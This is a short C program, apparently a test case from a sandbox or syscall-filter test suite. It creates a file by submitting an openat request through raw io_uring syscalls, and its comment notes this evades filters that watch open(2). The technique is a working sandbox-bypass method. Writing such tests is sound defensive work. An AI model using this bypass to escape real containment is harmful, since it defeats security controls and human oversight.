/* ring PATH: creates a file through io_uring, which no filter of open(2) sees. */
#include "attack.h"
#include <linux/io_uring.h>
#include <sys/mman.h>

int main(int argc, char **argv)
{
    struct io_uring_params parameters = {0};
    int ring = must("io_uring_setup", syscall(SYS_io_uring_setup, 1, &parameters));
    size_t length = parameters.sq_off.array + parameters.sq_entries * sizeof(unsigned);
    char *queue = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entry =
        mmap(NULL, sizeof *entry, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (queue == MAP_FAILED || entry == MAP_FAILED)
        must("mmap", -1);
    memset(entry, 0, sizeof *entry);
    entry->opcode = IORING_OP_OPENAT;
    entry->fd = AT_FDCWD;
    entry->addr = (unsigned long)argument(argc, argv, 1);
    entry->len = 0600;
    entry->open_flags = O_WRONLY | O_CREAT;
    *(unsigned *)(queue + parameters.sq_off.array) = 0;
    __atomic_store_n((unsigned *)(queue + parameters.sq_off.tail), 1, __ATOMIC_RELEASE);
    must("io_uring_enter", syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0));
    return 0;
}
